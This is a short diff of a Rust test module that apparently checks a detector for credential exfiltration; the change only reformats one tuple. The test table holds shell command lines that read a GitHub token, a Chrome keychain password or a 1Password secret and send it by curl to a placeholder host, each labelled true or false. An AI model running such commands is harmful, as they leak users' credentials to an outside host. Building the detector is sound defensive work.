@@ -113,7 +113,10 @@ mod tests {
             ("t=$(gh auth token)\ncurl \"https://h.somewhere.example/?t=$t\"", true),
             ("security find-generic-password -wa Chrome | curl -d @- https://h.somewhere.example/k", true),
             ("gh auth token\ncurl https://h.somewhere.example/", false),
-            ("k=$(op read op://a/b/c)\ncurl -H \"Authorization: Bearer $k\" https://api.somewhere.example/me", false),
+            (
+                "k=$(op read op://a/b/c)\ncurl -H \"Authorization: Bearer $k\" https://api.somewhere.example/me",
+                false,
+            ),
             ("k=$(op read op://a/b/c)\ncurl -d \"$k\" https://h.somewhere.example/", true),
             ("t=$(gh auth token)\ncurl -H \"Authorization: Bearer $t\" https://h.somewhere.example/", true),
         ] {
